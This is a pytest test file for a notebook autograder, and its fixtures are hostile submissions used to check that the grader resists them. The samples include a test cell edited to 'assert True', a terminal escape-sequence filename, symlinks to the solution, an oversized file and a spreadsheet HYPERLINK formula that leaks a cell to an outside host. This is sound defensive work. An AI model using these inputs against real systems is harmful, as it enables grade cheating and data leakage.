"""`make grade` survives a class of broken submissions (issues 7 and 14): each gets a score and a status line, the batch
completes, nobody else's grade moves, feedback has no hidden tests, and re-running neither loses nor duplicates rows.

The class is built from lab00_setup: one good student and one student for each broken-submission kind.
"""

from __future__ import annotations

import copy
import csv
import json
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest

from grading import LABS, Submission, find_submissions, list_labs, load_lab, student_versions
from grading.submissions import ignored_entries, printable, submitted_files
from utils import ROOT

LAB = "lab00_setup"
# carol_loop's `while True: pass` burns one core for the whole limit, so the limit is most of this class's time. The
# slowest honest cell is lab00's setup: about 1 s in a kernel forked from the zygote (torch already imported), about
# 5 s in a fresh kernel (where nested namespaces are missing), on a quiet 2-core machine.
CELL_TIMEOUT = 20


def _solution() -> nbformat.NotebookNode:
    nb = student_versions(load_lab(LAB), LABS / LAB)["solution"][LAB]
    for k, cell in enumerate(c for c in nb.cells if c.cell_type == "code"):
        cell.execution_count = k + 1  # as if the student ran it
    return nb


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _write(root: Path, student: str, nb=None, name: str = f"{LAB}.ipynb", raw: bytes | None = None) -> None:
    folder = root / student / LAB
    folder.mkdir(parents=True, exist_ok=True)
    if raw is not None:
        (folder / name).write_bytes(raw)
    elif nb is not None:
        nbformat.write(nb, folder / name)


def build_class(root: Path) -> dict[str, dict]:
    """Submissions in nbgrader layout; returns what each student should get (score, status, note fragment)."""
    sol = _solution()
    expect = {}

    _write(root, "alice", sol)
    expect["alice"] = dict(score=6, status="ok", note=None)

    nb = copy.deepcopy(sol)
    _cell(nb, "count_tokens").source = "def count_tokens(text: str) -> int:\n    return len(tokenizer(text)['input_ids']\n"
    _write(root, "bob_syntax", nb)
    expect["bob_syntax"] = dict(score=3, status="ok", note="count_tokens raised SyntaxError")

    nb = copy.deepcopy(sol)
    _cell(nb, "count_tokens").source = "while True:\n    pass"
    _write(root, "carol_loop", nb)
    expect["carol_loop"] = dict(score=3, status="timeout", note="time limit")

    nb = copy.deepcopy(sol)
    _cell(nb, "complete").source = "import os\nos._exit(1)"
    _write(root, "dave_crash", nb)
    expect["dave_crash"] = dict(score=3, status="crashed", note="kernel died")  # tests before the crash count

    nb = copy.deepcopy(sol)  # test_count_tokens_value deleted (restored), test_complete_type moved above `complete`
    # (locked and test cells always run from the lab source, in the lab's order)
    nb.cells.remove(_cell(nb, "test_count_tokens_value"))
    moved = _cell(nb, "test_complete_type")
    nb.cells.remove(moved)
    nb.cells.insert(nb.cells.index(_cell(nb, "complete")), moved)
    _write(root, "erin_deleted_reordered", nb)
    expect["erin_deleted_reordered"] = dict(score=6, status="ok", note="re-ordered")

    nb = copy.deepcopy(sol)  # a wrong answer, and the test that catches it "fixed"
    _cell(nb, "count_tokens").source = "def count_tokens(text):\n    return len(text.split())"
    _cell(nb, "test_count_tokens_value").source = "assert True"
    _write(root, "grace_edited_test", nb)
    expect["grace_edited_test"] = dict(score=4, status="ok", note="edited")

    nb = copy.deepcopy(sol)  # a copied test cell keeps its grade_id
    nb.cells.append(copy.deepcopy(_cell(nb, "test_complete_type")))
    _write(root, "heidi_duplicate_id", nb)
    expect["heidi_duplicate_id"] = dict(score=6, status="ok", note="duplicated grade_id")

    nb = copy.deepcopy(sol)  # prints 200k lines when graded, and was saved with 6 MB of output
    _cell(nb, "complete").source += "\n\nfor _i in range(200_000):\n    print(_i)"
    _cell(nb, "setup").outputs = [nbformat.v4.new_output("stream", name="stdout", text="y" * 6_000_000)]
    _write(root, "ivan_huge_output", nb)
    expect["ivan_huge_output"] = dict(score=6, status="ok", note="truncated")

    (root / "judy_missing" / LAB).mkdir(parents=True)
    (root / "judy_missing" / LAB / f"{LAB}.zip").write_bytes(b"PK\x05\x06" + bytes(18))  # an empty zip, not unpacked
    expect["judy_missing"] = dict(score=0, status="missing", note=f"missing notebook {LAB}.ipynb (handed in: {LAB}.zip)")

    _write(root, "mallory_wrong_name", sol, name="lab00_setup\x1b[2J (1).ipynb")  # with a clear-screen escape
    expect["mallory_wrong_name"] = dict(score=6, status="ok", note="expected 'lab00_setup.ipynb'")

    nb = copy.deepcopy(sol)
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.execution_count = None
    _write(root, "niaj_never_executed", nb)
    expect["niaj_never_executed"] = dict(score=6, status="ok", note="never executed")

    nb = copy.deepcopy(sol)
    _cell(nb, "count_tokens").source += "  # café, naïve"
    text = json.dumps(nb).replace("caf\\u00e9, na\\u00efve", "café, naïve")  # the rest stays \\u-escaped ASCII
    assert "café" in text
    _write(root, "olivia_cp1252", raw=text.encode("cp1252"))
    expect["olivia_cp1252"] = dict(score=6, status="ok", note="not UTF-8")

    _write(root, "peggy_garbage", raw=bytes(range(256)) * 40)
    expect["peggy_garbage"] = dict(score=0, status="unreadable", note="not a readable notebook")
    return expect


def _grade(submissions: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
    cmd = [sys.executable, "-m", "grading", "--lab", LAB, "--submissions", str(submissions),
           "--out", str(out), "--cell-timeout", str(CELL_TIMEOUT), "--workers", "2", *extra]
    return subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=1800)


def _rows(out: Path) -> list[dict[str, str]]:
    with open(out / "grades.csv", newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("class")
    submissions, out = root / "submitted", root / "grading"
    expect = build_class(submissions)
    start = time.monotonic()
    proc = _grade(submissions, out)
    seconds = time.monotonic() - start
    print(f"\ngraded {len(expect)} students in {seconds:.0f} s\n{proc.stdout}")
    assert proc.returncode == 0, proc.stderr[-3000:]
    return submissions, out, expect, proc


@pytest.mark.slow  # make test-fast leaves it out; make test runs it
def test_every_student_gets_the_expected_score_and_status(graded):
    _, out, expect, proc = graded
    rows = {r["student"]: r for r in _rows(out)}
    assert sorted(rows) == sorted(expect)
    for student, want in expect.items():
        row = rows[student]
        assert (float(row["score"]), row["status"]) == (want["score"], want["status"]), (student, row)
        assert row["max_score"] == "6" and row["lab"] == LAB
        if want["note"] is None:
            assert row["notes"] == "", (student, row["notes"])
        else:
            assert want["note"] in row["notes"], (student, row["notes"])
        cells = [float(row[c]) for c in ("test_count_tokens_type", "test_count_tokens_value",
                                         "test_complete_type", "test_complete_value")]
        assert sum(cells) == float(row["score"]), (student, row)
    assert "\x1b" not in proc.stdout + proc.stderr, "a file name's escape sequence reached the terminal"


@pytest.mark.slow  # make test-fast leaves it out; make test runs it
def test_feedback_has_scores_but_no_hidden_tests(graded):
    _, out, expect, _ = graded
    html = (out / "feedback" / "alice" / LAB / f"{LAB}.html").read_text(encoding="utf-8")
    assert "count_tokens" in html and "6 / 6" in html
    for secret in ("BEGIN HIDDEN TESTS", "_reference", "random.Random(20251)", "BEGIN SOLUTION"):
        assert secret not in html
    failed = (out / "feedback" / "bob_syntax" / LAB / f"{LAB}.html").read_text(encoding="utf-8")
    assert "SyntaxError" in failed and "BEGIN HIDDEN TESTS" not in failed and "_reference" not in failed
    assert [p.name for p in (out / "feedback" / "judy_missing" / LAB).iterdir()] == ["grading_notes.html"]
    assert "missing" in (out / "feedback" / "judy_missing" / LAB / "grading_notes.html").read_text()
    assert "kernel died" in (out / "feedback" / "dave_crash" / LAB / "grading_notes.html").read_text()


@pytest.mark.slow  # make test-fast leaves it out; make test runs it
def test_rerun_replaces_rows_and_keeps_the_others(graded):
    submissions, out, expect, _ = graded
    before = {r["student"]: r for r in _rows(out)}
    proc = _grade(submissions, out, "--students", "alice", "judy_missing", "--no-feedback")
    assert proc.returncode == 0, proc.stderr[-3000:]
    after = _rows(out)
    assert len(after) == len(before) == len(expect)
    after = {r["student"]: r for r in after}
    for student in expect:
        keep = ("graded_at",) if student in ("alice", "judy_missing") else ()
        assert {k: v for k, v in after[student].items() if k not in keep} == \
               {k: v for k, v in before[student].items() if k not in keep}, student


def test_every_name_is_a_student(tmp_path):
    """Spaces, accents and near-collisions: every folder and notebook gets its own row, named as handed in."""
    (tmp_path / "zoe.ipynb").write_text("{}")
    (tmp_path / "jo smith.ipynb").write_text("{}")
    (tmp_path / "jo_smith.ipynb").write_text("{}")
    (tmp_path / "jane doe" / LAB).mkdir(parents=True)
    (tmp_path / "émilie" / LAB).mkdir(parents=True)
    (tmp_path / "zoe").mkdir()
    (tmp_path / "notes.txt").write_text("not a submission")
    (tmp_path / ".DS_Store").write_text("")
    subs = find_submissions(tmp_path, LAB)
    assert [(s.student, s.loose) for s in subs] == [
        ("jane doe", False), ("jo smith", True), ("jo_smith", True), ("zoe", False), ("zoe (2)", True),
        ("émilie", False)]
    assert isinstance(subs[1], Submission) and subs[1].files == [tmp_path / "jo smith.ipynb"]
    assert ignored_entries(tmp_path) == ["notes.txt"]


def test_a_notebook_handed_in_without_the_labs_folder_is_graded(tmp_path):
    """`kim/<lab>.ipynb` instead of `kim/<lab>/<lab>.ipynb` (an LMS export, a student who skipped the folder): an
    honest student is graded, with a note; a student with another lab's folder only is not graded from it."""
    _write(tmp_path, "ann", _solution())
    (tmp_path / "kim").mkdir()
    nbformat.write(_solution(), tmp_path / "kim" / f"{LAB}.ipynb")
    (tmp_path / "kim" / "notes.txt").write_text("not a notebook")
    (tmp_path / "kim" / ".~draft.ipynb").write_text("{}")
    (tmp_path / "kim" / "linked.ipynb").symlink_to(ROOT / "solutions" / LAB / f"{LAB}.ipynb")
    other = next(name for name in list_labs() if name != LAB)
    (tmp_path / "lee" / other).mkdir(parents=True)
    nbformat.write(_solution(), tmp_path / "lee" / other / f"{LAB}.ipynb")
    subs = {s.student: s for s in find_submissions(tmp_path, LAB)}
    assert subs["kim"].files == [tmp_path / "kim" / f"{LAB}.ipynb"]
    assert any("linked.ipynb is a symbolic link" in n for n in subs["kim"].notes)
    assert any(f"no {LAB}/ folder" in n for n in subs["kim"].notes)
    assert subs["ann"].files == [tmp_path / "ann" / LAB / f"{LAB}.ipynb"] and not subs["ann"].notes
    assert subs["lee"].files == [] and not subs["lee"].notes


def test_a_symbolic_link_handed_in_is_never_followed(tmp_path):
    """The grader reads submissions outside the sandbox, with the instructor's rights: a link handed in (a zip
    unpacked with its links) to the lab's solution or to another student's notebook is not read. The student gets a
    row that says so, with 0 points, and no kernel starts. An instructor's linked student folder still works."""
    solution = ROOT / "solutions" / LAB / f"{LAB}.ipynb"
    submitted = tmp_path / "submitted"
    _write(submitted, "alice", _solution())
    (submitted / "mallory" / LAB).mkdir(parents=True)
    (submitted / "mallory" / LAB / f"{LAB}.ipynb").symlink_to(solution)
    (submitted / "oscar").mkdir()
    (submitted / "oscar" / LAB).symlink_to(solution.parent, target_is_directory=True)
    (submitted / "peggy" / LAB / "work").mkdir(parents=True)
    (submitted / "peggy" / LAB / "work" / "copied").symlink_to(submitted / "alice" / LAB, target_is_directory=True)
    (submitted / "trent.ipynb").symlink_to(solution)
    for folder in ("__MACOSX", ".ipynb_checkpoints"):  # what archivers and Jupyter add: never a student's notebook
        (submitted / "alice" / LAB / folder).mkdir()
        (submitted / "alice" / LAB / folder / f"._{LAB}.ipynb").write_text("{}")
    _write(tmp_path / "elsewhere", "victor", _solution())
    (submitted / "victor").symlink_to(tmp_path / "elsewhere" / "victor", target_is_directory=True)

    subs = {s.student: s for s in find_submissions(submitted, LAB)}
    assert sorted(subs) == ["alice", "mallory", "oscar", "peggy", "trent", "victor"]
    for student in ("mallory", "oscar", "peggy", "trent"):
        assert subs[student].files == [] and "symbolic link" in " ".join(subs[student].notes), student
    assert subs["victor"].files == [submitted / "victor" / LAB / f"{LAB}.ipynb"] and not subs["victor"].notes
    assert subs["alice"].files == [submitted / "alice" / LAB / f"{LAB}.ipynb"] and not subs["alice"].notes
    assert submitted_files(submitted / "peggy" / LAB) == ([], ["work/copied is a symbolic link: not followed, not "
                                                               "graded (hand in the notebook file itself)"])

    from grading.grade import GradingOptions, grade_student
    result = grade_student(load_lab(LAB), subs["mallory"], tmp_path / "out", GradingOptions(feedback=False))
    assert (result.score, result.status) == (0.0, "missing")
    assert any(f"{LAB}.ipynb is a symbolic link" in note for note in result.notes), result.notes


def test_no_cell_of_grades_csv_starts_like_a_formula(tmp_path):
    """A student's display name or file name that reaches grades.csv never runs as a spreadsheet formula, and reads
    back as it was: --resume skips the student, the LMS export finds them, a re-run replaces their row."""
    from grading.grade import Result, graded_students, write_grades
    from grading.lms import read_scores
    from grading.spreadsheet import FORMULA_START

    lab = load_lab(LAB)
    names = ['=HYPERLINK("http://example.org/?"&A1)', "+1", "-jo", "@sum", "alice"]
    results = [Result(name, LAB, 1.0, lab.max_score, {}, "ok", [f"{name}.ipynb was not UTF-8; read as cp1252"])
               for name in names]
    path = tmp_path / "grades.csv"
    write_grades(path, lab, results)
    write_grades(path, lab, results[:2])  # a re-run of two of them
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert len(rows) == 1 + len(names)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]
    assert graded_students(path, LAB) == set(names)
    assert read_scores(path, LAB) == dict.fromkeys(names, "1")


def test_a_notebook_too_big_to_parse_is_not_read(tmp_path, monkeypatch):
    """A file over MAX_NOTEBOOK_BYTES (a zip bomb's) is refused from its size, before a byte is read: parsing it
    would take several times its size in the trusted grading process. (A sparse file: no disk is used.)"""
    from grading.submissions import MAX_NOTEBOOK_BYTES, read_notebook

    path = tmp_path / f"{LAB}.ipynb"
    with open(path, "wb") as f:
        f.truncate(MAX_NOTEBOOK_BYTES + 1)

    def no_reading(self):
        raise AssertionError(f"{self} was read")

    monkeypatch.setattr(Path, "read_bytes", no_reading)
    nb, notes = read_notebook(path)
    assert nb is None and "too big to be read" in notes[0], notes


def test_of_several_wrongly_named_notebooks_the_one_holding_the_lab_is_graded(tmp_path):
    """A student hands in `lab00_setup-Copy1.ipynb` (their work) and an empty `Untitled.ipynb` saved after it: the
    copy is graded, not the newer file; with metadata stripped by an editor it still wins, by its cells' text."""
    import os

    from grading.submissions import pick_files

    lab = load_lab(LAB)
    stripped = _solution()
    for cell in stripped.cells:
        cell.metadata = {}
    for name, nb in (("copy", _solution()), ("stripped", stripped)):
        folder = tmp_path / name
        _write(folder, "alice", nb, name=f"{LAB}-Copy1.ipynb")
        _write(folder, "alice", nbformat.v4.new_notebook(), name="Untitled.ipynb")
        os.utime(folder / "alice" / LAB / f"{LAB}-Copy1.ipynb", (1, 1))  # saved long before Untitled
        sub = find_submissions(folder, LAB)[0]
        chosen, notes = pick_files(sub, lab)
        assert chosen == {LAB: folder / "alice" / LAB / f"{LAB}-Copy1.ipynb"}, name
        assert f"notebook named '{LAB}-Copy1.ipynb'" in notes[0]


def test_a_name_handed_in_cannot_drive_the_instructors_terminal():
    """File and folder names reach the terminal (the CLI's result lines, the progress bar): their control characters
    are printed escaped, so a name cannot clear the screen, retitle the window or overprint another student's row."""
    assert printable("jo\x1b[2J\x1b]0;pwned\x07\r\nalice 6/6.ipynb") == "jo\\x1b[2J\\x1b]0;pwned\\x07\\r\\nalice 6/6.ipynb"
    assert printable("émilie, jane doe: 6/6 ok") == "émilie, jane doe: 6/6 ok"


def test_grading_refuses_without_a_sandbox(tmp_path):
    """No bubblewrap on PATH: the CLI says why and stops, unless told --unsafe-no-sandbox."""
    _write(tmp_path / "submitted", "alice", _solution())
    cmd = [sys.executable, "-m", "grading", "--lab", LAB, "--submissions", str(tmp_path / "submitted"),
           "--out", str(tmp_path / "out")]
    proc = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=600,
                          env={"PATH": str(Path(sys.executable).parent), "HF_HUB_OFFLINE": "1"})
    assert proc.returncode == 2 and "bubblewrap is not installed" in proc.stderr and "--unsafe-no-sandbox" in \
        proc.stderr
    assert not (tmp_path / "out" / "grades.csv").exists()


def test_help():
    proc = subprocess.run([sys.executable, "-m", "grading", "--help"], cwd=ROOT, capture_output=True, text=True)
    assert proc.returncode == 0 and "--submissions" in proc.stdout and "--cell-timeout" in proc.stdout
